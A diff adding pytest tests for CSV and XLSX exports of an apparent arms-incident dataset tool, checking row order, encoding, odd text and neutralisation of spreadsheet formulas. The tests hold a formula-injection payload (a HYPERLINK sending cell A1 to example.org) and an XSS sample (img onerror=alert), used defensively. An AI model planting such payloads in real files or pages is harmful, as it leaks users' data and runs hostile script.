@@ -1,0 +1,214 @@
+"""The rows shown, as CSV and XLSX: the same incidents, the same order, nothing that runs."""
+
+import csv
+import io
+from dataclasses import replace
+
+import openpyxl
+import pytest
+
+from armsflow import briefing, selection, tables
+from armsflow.dataset import labels
+from armsflow.selection import Selection
+from tests.browser.recount import DATA
+from tests.choices import random_selections
+
+STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = '{}HYPERLINK("https://example.org/?"&A1,"1\'+1")'
+STRANGE = (
+    "$x^2$ costs $5, or \\$5",
+    "<img src=x onerror=alert(1)> & \"quotes\" 'and' <!-- -->",
+    "\u202eمرحبا\u202c עברית",
+    "🚀👩‍🚀 zero\u200bwidth \ufeffmark",
+    "next\u0085line \u009b1m",
+    "x" * 10_000,
+)
+
+
+def read_csv(content):
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def read_xlsx(content):
+    return openpyxl.load_workbook(io.BytesIO(content))
+
+
+def raw_incidents():
+    with (DATA / "incidents.csv").open(encoding="utf-8", newline="") as file:
+        return {row["incident_id"]: row for row in csv.DictReader(file)}
+
+
+def with_titles(small, *titles):
+    """The tiny dataset with other texts in every cell that an editor writes."""
+    incidents = small.incidents.copy()
+    for place, title in enumerate(titles):
+        for column in ("title", "summary", "place"):
+            incidents.iloc[place, incidents.columns.get_loc(column)] = title
+    items, sources = small.items.copy(), small.sources.copy()
+    items["designation"] = [titles[row % len(titles)] for row in range(len(items))]
+    for column in ("publisher", "title"):
+        sources[column] = [titles[row % len(titles)] for row in range(len(sources))]
+    return replace(small, incidents=incidents, items=items, sources=sources)
+
+
+@pytest.fixture(scope="module")
+def choices(shipped):
+    return [
+        selection.default_selection(shipped),
+        Selection(),
+        Selection(weapon=("manpads",), destinations=("sinai",), years=(2011, 2014)),
+        *random_selections(shipped, 4, seed=3),
+    ]
+
+
+def test_the_rows_are_the_shown_incidents_in_the_order_of_the_page(choices, shipped):
+    raw = raw_incidents()
+    for chosen in choices:
+        shown = selection.apply(shipped, chosen)
+        rows = read_csv(tables.csv_file(shown))
+        assert [row["Id"] for row in rows] == list(shown.incidents.index)
+        for row in rows:
+            incident = raw[row["Id"]]
+            assert (row["Date"], row["Date to"]) == (incident["date"], incident["date_end"])
+            assert row["Incident"] == incident["title"]
+            assert row["Summary"] == incident["summary"]
+            assert row["Corridor"] == incident["corridor_id"]
+            cited = [row["Sources"].count(shipped.sources.url[source]) > 0
+                     for source in incident["source_ids"].split(";")]  # fmt: skip
+            assert all(cited)
+
+
+def test_the_workbook_holds_the_same_cells_as_the_csv(choices, shipped):
+    for chosen in choices[1:3]:
+        shown = selection.apply(shipped, chosen)
+        book = read_xlsx(tables.xlsx_file(shown, []))
+        header, *rows = book["Incidents"].iter_rows(values_only=True)
+        plain = read_csv(tables.csv_file(shown))
+        assert list(header) == list(plain[0])
+        for written, row in zip(rows, plain, strict=True):
+            for cell, text in zip(written, row.values(), strict=True):
+                if isinstance(cell, int | float):
+                    assert cell == float(text)
+                else:
+                    assert (cell or "") == text
+
+
+def test_items_stand_in_the_row_as_the_source_states_them(small):
+    rows = {row["Id"]: row for row in read_csv(tables.csv_file(small))}
+    raid = rows["2013-01-16-raid"]
+    assert raid["Weapons as stated"] == (
+        "Kalashnikov: about 20 weapons; Shoulder-fired missiles: number not stated"
+    )
+    assert raid["Counted as"] == labels(small, "incidents", "scope")["event"]
+    assert raid["Destination"] == "Algeria"
+    assert (float(raid["Latitude"]), float(raid["Longitude"])) == (28.05, 9.56)
+    assert raid["Sources"].startswith("AFP, “Raid on the gas plant”, 17 January 2013. https://")
+
+
+def test_a_selection_without_incidents_gives_a_header_alone(shipped):
+    nothing = Selection(weapon=("manpads",), destinations=("tunisia",), years=(2023, 2024))
+    shown = selection.apply(shipped, nothing)
+    assert len(shown.incidents) == 0
+    lines = tables.csv_file(shown).decode("utf-8-sig").splitlines()
+    assert len(lines) == 1
+    assert lines[0].startswith("Id,Date,")
+    assert read_xlsx(tables.xlsx_file(shown, []))["Incidents"].max_row == 1
+
+
+def test_a_spreadsheet_reads_the_accents(shipped):
+    content = tables.csv_file(selection.apply(shipped, Selection()))
+    assert content.startswith(b"\xef\xbb\xbf")
+    assert "Algérie" in content.decode("utf-8-sig")
+
+
+def test_the_same_rows_give_the_same_csv(choices, shipped):
+    first, again = (tables.csv_file(selection.apply(shipped, choices[3])) for _ in range(2))
+    assert first == again
+
+
+def test_the_second_sheet_says_what_the_rows_are(shipped, plate):
+    chosen = Selection(weapon=("manpads",), years=(2012, 2014))
+    prepared = briefing.prepare(chosen, shipped, plate, "https://example.org/flows")
+    words = briefing.briefing_words(prepared)
+    book = read_xlsx(tables.xlsx_file(prepared.shown, words))
+    about = dict(book["About"].iter_rows(values_only=True))
+    sentence = prepared.picture.sentence
+    assert about["Finding"] == sentence.headline
+    assert about["Counts"] == sentence.counts
+    assert about["Filters"] == sentence.filters
+    assert about["Data"].startswith(f"Data {shipped.version}")
+    assert about["Picture number"] == prepared.caption.number
+    assert about["View"] == prepared.caption.address
+    for note in prepared.picture.notes:
+        assert note in about["Note"]
+
+
+# ---------------------------------------------------------------- nothing runs
+
+
+@pytest.mark.parametrize("start", STARTS, ids=repr)
+def test_text_that_a_spreadsheet_would_run_is_plain_text_in_a_workbook(start, small):
+    text = HOSTILE.format(start)
+    hostile = with_titles(small, *[text] * 5)
+    book = read_xlsx(tables.xlsx_file(hostile, [("Finding", text)]))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    dangerous = [
+        cell.coordinate
+        for cell in cells
+        if cell.data_type == "f" or (cell.data_type == "s" and cell.value.startswith(STARTS))
+    ]
+    assert dangerous == []
+    assert sum(text.rstrip() in str(cell.value) for cell in cells) >= 5 * 3 + 1
+
+
+@pytest.mark.parametrize("start", STARTS, ids=repr)
+def test_text_that_a_spreadsheet_would_run_is_plain_text_in_csv(start, small):
+    text = HOSTILE.format(start)
+    rows = read_csv(tables.csv_file(with_titles(small, *[text] * 5)))
+    assert [row["Incident"] for row in rows] == [f"'{text}"] * 5
+    runs = [
+        (heading, cell)
+        for row in rows
+        for heading, cell in row.items()
+        if cell.startswith(STARTS) and not _is_number(cell)
+    ]
+    assert runs == []
+
+
+def test_numbers_below_zero_stay_numbers(small):
+    [gao] = [row for row in read_csv(tables.csv_file(small)) if row["Place"] == "Gao"]
+    assert gao["Longitude"] == "-0.04"
+    book = read_xlsx(tables.xlsx_file(small, []))
+    longitudes = [cell for column in book["Incidents"].iter_cols() for cell in column[1:]
+                  if column[0].value == "Longitude"]  # fmt: skip
+    assert {cell.data_type for cell in longitudes} == {"n"}
+    assert -0.04 in [cell.value for cell in longitudes]
+
+
+def test_strange_texts_arrive_as_they_are(small):
+    strange = with_titles(small, *STRANGE[:5])
+    rows = read_csv(tables.csv_file(strange))
+    assert [row["Incident"] for row in rows] == list(STRANGE[:5])
+    book = read_xlsx(tables.xlsx_file(strange, []))
+    assert [row[3].value for row in book["Incidents"].iter_rows(min_row=2)] == list(STRANGE[:5])
+
+
+def test_a_text_of_ten_thousand_letters_arrives_whole(small):
+    rows = with_titles(small, *[STRANGE[5]] * 5)
+    assert {row["Incident"] for row in read_csv(tables.csv_file(rows))} == {STRANGE[5]}
+    book = read_xlsx(tables.xlsx_file(rows, []))
+    assert {row[3].value for row in book["Incidents"].iter_rows(min_row=2)} == {STRANGE[5]}
+
+
+def test_the_quotation_marks_of_a_cell_do_not_end_it(small):
+    text = 'He said "no", then;left\'s'
+    [row, *_] = read_csv(tables.csv_file(with_titles(small, text)))
+    assert (row["Incident"], row["Place"]) == (text, text)
+
+
+def _is_number(cell):
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
